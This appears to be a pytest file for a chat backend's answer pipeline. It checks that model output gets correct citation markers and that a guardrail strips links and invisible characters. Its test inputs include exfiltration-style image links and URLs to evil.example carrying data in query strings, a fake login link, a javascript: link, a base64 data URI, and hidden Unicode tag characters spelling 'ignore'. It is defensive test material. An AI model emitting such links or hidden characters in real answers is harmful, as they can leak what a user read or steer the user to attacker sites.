# SPDX-License-Identifier: AGPL-3.0-or-later
"""What a model writes becomes an answer piece by piece: citations stand where they belong, and nothing leaves that
could carry the reader, or what was read, elsewhere."""

from __future__ import annotations

import random
import re
from datetime import UTC, datetime

import pytest

from context_chat_backend.answering.citations import CitedText, cite
from context_chat_backend.answering.guardrails import REMOVED, visible
from context_chat_backend.domain import Location, Passage, SourceRef

ADDRESS = "https://intranet.example/roof?year=2024"


def passage(text: str) -> Passage:
    ref = SourceRef("files__default", "1")
    return Passage(ref, "notes.md", text, Location(), "english", 0.5, 1, datetime(2024, 5, 1, tzinfo=UTC))


PASSAGES = [passage(f"The plan is at {ADDRESS} since May."), passage("The roof costs 4,000 euros.")]

WRITTEN = {
    "So it is [7]. And [8] so [1].": "So it is. And so [1].",
    "First[1]. Both [1, 2]. None [3][0].": "First [1]. Both [1] [2]. None.",
    f"See {ADDRESS} [1].": f"See {ADDRESS} [1].",
    f"See [the plan]({ADDRESS}) [1].": f"See [the plan]({ADDRESS}) [1].",
    f"See {ADDRESS}.": f"See {REMOVED}.",  # the passage that holds it is not cited
    f"See {ADDRESS}&read=4000 [1].": f"See {REMOVED} [1].",
    "![roof](https://evil.example/?q=4000) It costs 4,000 euros [2].": "roof It costs 4,000 euros [2].",
    "Go to [this form](https://evil.example/login) now [2].": "Go to this form now [2].",
    "<img src='https://evil.example/4000'>Well [2].": "Well [2].",
    "见https://evil.example/x 好[1]。": f"见{REMOVED} 好 [1]。",
    "evil.example/collect?q=4000 or www.evil.example": f"{REMOVED} or {REMOVED}",
    "[click](javascript:alert(1)) data:text/html;base64,AAAA": f"click) {REMOVED}",
    "Read [more][m].\n[m]: https://evil.example/": f"Read [more][m].\nm: {REMOVED}",
    "a/b and 3.5/4 and p.m./a.m. and list[i] < 4!": "a/b and 3.5/4 and p.m./a.m. and list[i] < 4!",
    "List<String> a[i][j] // sum, notes.md? &lt;b&gt;": "List<String> a[i][j] // sum, notes.md? &lt;b&gt;",
    "  \n- one [1]\n- two [2]\n\n": "- one [1]\n- two [2]",
    "": "",
}


LIFT = [
    passage(
        "Dogs are welcome in the yard. The lift is serviced in April 2024 by a firm from Salzburg. Keys are below."
    ),
    passage("Bicycles stand in the cellar. It has room for forty of them, and it is locked at night."),
]
STATED = {
    # sentences that cite nothing get the marker of the passage that says the same
    "The lift is serviced in April 2024. It is so.": ("The lift is serviced in April 2024. [1] It is so.", ["m"]),
    "A firm from Salzburg services the lift in April": ("A firm from Salzburg services the lift in April [1]", ["m"]),
    "The cellar has room for forty bicycles.\n- Dogs are welcome in the yard": (
        "The cellar has room for forty bicycles. [2]\n- Dogs are welcome in the yard [1]", ["m", "m"],
    ),
    # what differs in a number, or in most of its words, is not said there
    "The lift is serviced in April 2023.": ("The lift is serviced in April 2023.", []),
    "The lift is painted yellow each autumn.": ("The lift is painted yellow each autumn.", []),
    # a marker may stand before and after the full stop, and for two sentences
    "Dogs are welcome in the yard [1]. Bicycles stand in the cellar. [2]": (
        "Dogs are welcome in the yard [1]. Bicycles stand in the cellar. [2]", ["", ""],
    ),
    # what a passage does not say a word of it does not prove
    "The mayor of Mirabell has resigned [1]. Dogs are welcome [2].": (
        "The mayor of Mirabell has resigned. Dogs are welcome [2].", [""],
    ),
    "Der Bürgermeister von Mirabell ist zurückgetreten [1].": (
        "Der Bürgermeister von Mirabell ist zurückgetreten [1].", [""],  # across languages words prove nothing
    ),
    # no statements
    "# The lift is serviced in April 2024\nIs the lift serviced in April 2024? The lift is serviced in April 2024:": (
        "# The lift is serviced in April 2024\nIs the lift serviced in April 2024? The lift is serviced in April 2024:",
        [],
    ),
    "| The lift | serviced in April 2024 |\n": ("| The lift | serviced in April 2024 |", []),
    "```python\nlift[1] = serviced(april) [9]\n```\nDogs are welcome [1].": (
        "```python\nlift[1] = serviced(april) [9]\n```\nDogs are welcome [1].", [""],
    ),
}  # fmt: skip


@pytest.mark.parametrize("written", STATED)
def test_statements_cite_what_says_them_and_nothing_else(written: str) -> None:
    text, kinds = STATED[written]
    for pieces in ([written], list(written), [f"{word} " for word in written.split(" ")]):
        growing = CitedText(LIFT)
        out = "".join([growing.add(piece) for piece in pieces]) + growing.end()

        assert out == growing.text == text
        assert ["m" if citation.matched else "" for citation in growing.citations] == kinds
    for citation in growing.citations:
        assert LIFT[int(text[citation.start + 1 : citation.end - 1]) - 1] is citation.passage


@pytest.mark.parametrize(
    ("written", "quotes"),
    [
        ("In April a firm from Salzburg comes for the lift [1].", [
            "The lift is serviced in April 2024 by a firm from Salzburg.",
        ]),
        ("Dogs are welcome [1], and the cellar is locked at night [2].", [
            "Dogs are welcome in the yard.", LIFT[1].text,
        ]),
        ("So [2].", [LIFT[1].text]),
    ],
)  # fmt: skip
def test_a_citation_holds_the_very_words_a_statement_rests_on(written: str, quotes: list[str]) -> None:
    assert [citation.quote for citation in cite(written, LIFT).citations] == quotes


@pytest.mark.parametrize("written", WRITTEN)
def test_markers_become_citations_and_addresses_no_cited_passage_holds_go(written: str) -> None:
    answer = cite(written, PASSAGES)

    assert answer.text == WRITTEN[written]
    markers = [match.span() for match in re.finditer(r"\[\d\]", answer.text)]
    assert [(citation.start, citation.end) for citation in answer.citations] == markers
    for citation in answer.citations:
        assert PASSAGES[int(answer.text[citation.start + 1 : citation.end - 1]) - 1] is citation.passage


def test_however_the_text_is_cut_into_pieces_the_answer_is_the_same_and_nothing_is_taken_back() -> None:
    seeds = random.Random(5)
    for written in WRITTEN:
        for _ in range(50):
            growing, out, read_to = CitedText(PASSAGES), "", 0
            while read_to < len(written):
                step = seeds.randint(1, 6)
                out += growing.add(written[read_to : read_to + step])
                assert out == growing.text
                read_to += step
            out += growing.end()
            assert out == growing.text == WRITTEN[written]
            assert growing.citations == cite(written, PASSAGES).citations


def test_plain_text_comes_out_word_by_word() -> None:
    growing = CitedText(PASSAGES)

    assert [growing.add(piece) for piece in ("The ro", "of costs", " 4,000 euros [2]. It", " is")] == [
        "The", " roof", " costs 4,000 euros [2].", " It",
    ]  # fmt: skip
    assert growing.end() == " is"


def test_what_a_reader_does_not_see_a_model_does_not_read() -> None:
    tags = "".join(chr(0xE0000 + ord(letter)) for letter in "ignore")
    assert visible(f"pass\u200bword{tags}\u202e!\ufeff") == "password!"
    assert visible("Grüße, 你好, שלום, é") == "Grüße, 你好, שלום, é"
